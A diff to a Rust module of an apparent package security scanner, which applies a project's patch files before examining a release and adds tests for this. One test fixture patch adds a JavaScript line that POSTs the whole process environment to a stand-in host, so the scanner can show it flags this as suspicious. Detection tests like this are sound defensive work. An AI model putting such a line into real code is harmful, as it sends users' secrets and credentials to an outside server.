@@ -3,10 +3,13 @@
 //! No disk, network, clock or environment: the same job gives the same judgement on any machine.
 //! Tests call it in process; the program runs it in the worker processes of [`crate::worker`].
 
+use std::borrow::Cow;
 use std::panic::{AssertUnwindSafe, catch_unwind};
 use std::thread;
 
+use stockade_facts::ProjectPatch;
 use stockade_model::{Gap, GapKind, Judgement, Limits, Tree};
+use stockade_parse::patch;
 
 use crate::job::{Job, JobArtifact};
 
@@ -54,8 +57,66 @@ fn examine(job: &Job, limits: &Limits) -> Judgement {
 }
 
 fn examine_tree(tree: &Tree, job: &Job, limits: &Limits) -> Judgement {
-    let facts = stockade_facts::gather(tree, &job.context, limits);
+    let (patched, patch_gaps) = patched(tree, &job.context.patches);
+    let facts = stockade_facts::gather(patched.as_ref(), &job.context, limits);
     let (findings, rule_gaps) = stockade_rules::run(&facts);
-    let gaps = facts.gaps().iter().cloned().chain(rule_gaps).collect();
+    let gaps = facts.gaps().iter().cloned().chain(rule_gaps).chain(patch_gaps).collect();
     stockade_verdict::judge(findings, gaps, facts.capabilities().clone())
+}
+
+/// The release as it is after the project's patches, and those that do not fit.
+fn patched<'t>(tree: &'t Tree, patches: &[ProjectPatch]) -> (Cow<'t, Tree>, Vec<Gap>) {
+    let (mut patched, mut gaps) = (Cow::Borrowed(tree), Vec::new());
+    for ProjectPatch { path, text, folder } in patches {
+        match patch::read(text, folder).and_then(|patch| patch::apply(&patched, &patch)) {
+            Ok(tree) => patched = Cow::Owned(tree),
+            Err(error) => {
+                let reason = format!(
+                    "this patch was not applied, so what it changes was not examined: {error}; read it"
+                );
+                gaps.push(Gap::new(GapKind::Unsupported, reason).in_file(path));
+            }
+        }
+    }
+    (patched, gaps)
+}
+
+#[cfg(test)]
+mod tests {
+    use stockade_facts::Context;
+    use stockade_model::Verdict;
+
+    use super::*;
+
+    fn judged(patch: &str) -> Judgement {
+        let tree = stockade_unpack::text(
+            "== package.json\n{\"name\": \"a\", \"main\": \"index.js\"}\n== index.js\n1;\n",
+        )
+        .unwrap();
+        let patch =
+            ProjectPatch { path: "patches/a.patch".into(), text: patch.into(), folder: String::new() };
+        let context = Context { patches: vec![patch], ..Context::default() };
+        judge_on_own_stack(&Job { artifact: JobArtifact::Tree(tree), context }, &Limits::default())
+    }
+
+    #[test]
+    fn what_a_patch_adds_is_judged() {
+        let judgement = judged(
+            "--- a/index.js\n+++ b/index.js\n@@ -1 +1,2 @@\n 1;\n+fetch(\"https://collector.invalid\", {method: \"POST\", body: JSON.stringify(process.env)});\n",
+        );
+        assert_eq!(judgement.verdict, Verdict::Suspicious);
+        assert!(judgement.gaps.is_empty());
+    }
+
+    #[test]
+    fn a_patch_that_does_not_fit_is_a_gap() {
+        let judgement = judged("--- a/index.js\n+++ b/index.js\n@@ -1 +1 @@\n-9;\n+2;\n");
+        assert_eq!(judgement.verdict, Verdict::Unknown);
+        assert_eq!(judgement.gaps[0].file.as_deref(), Some("patches/a.patch"));
+        assert!(
+            judgement.gaps[0]
+                .reason
+                .contains("`index.js` has other lines than the patch expects near line 1")
+        );
+    }
 }
